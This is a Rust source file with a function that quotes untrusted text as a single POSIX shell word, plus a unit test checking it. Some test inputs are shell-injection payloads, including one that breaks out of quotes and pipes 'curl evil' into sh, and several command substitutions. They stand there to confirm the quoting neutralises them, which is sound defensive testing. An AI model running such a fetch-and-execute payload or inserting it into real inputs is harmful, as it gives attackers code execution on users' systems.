//! Quotes text for a terminal: a text that came from outside stays one word there, whatever it contains.

/// One word of a POSIX shell.
pub(crate) fn quoted(text: &str) -> String {
    let is_plain = |one: u8| one.is_ascii_alphanumeric() || b"._:/@%+=,-".contains(&one);
    if !text.is_empty() && text.bytes().all(is_plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whatever_is_in_it_is_one_word() {
        assert_eq!(quoted("mail-2.eu:1"), "mail-2.eu:1");
        for (text, word) in [
            ("", "''"),
            ("a b", "'a b'"),
            ("x';curl evil|sh;'", r"'x'\'';curl evil|sh;'\'''"),
            ("$(id) `id` \"\\", "'$(id) `id` \"\\'"),
            ("a\nb", "'a\nb'"),
            ("~root", "'~root'"),
            ("ä", "'ä'"),
        ] {
            assert_eq!(quoted(text), word);
        }
    }
}
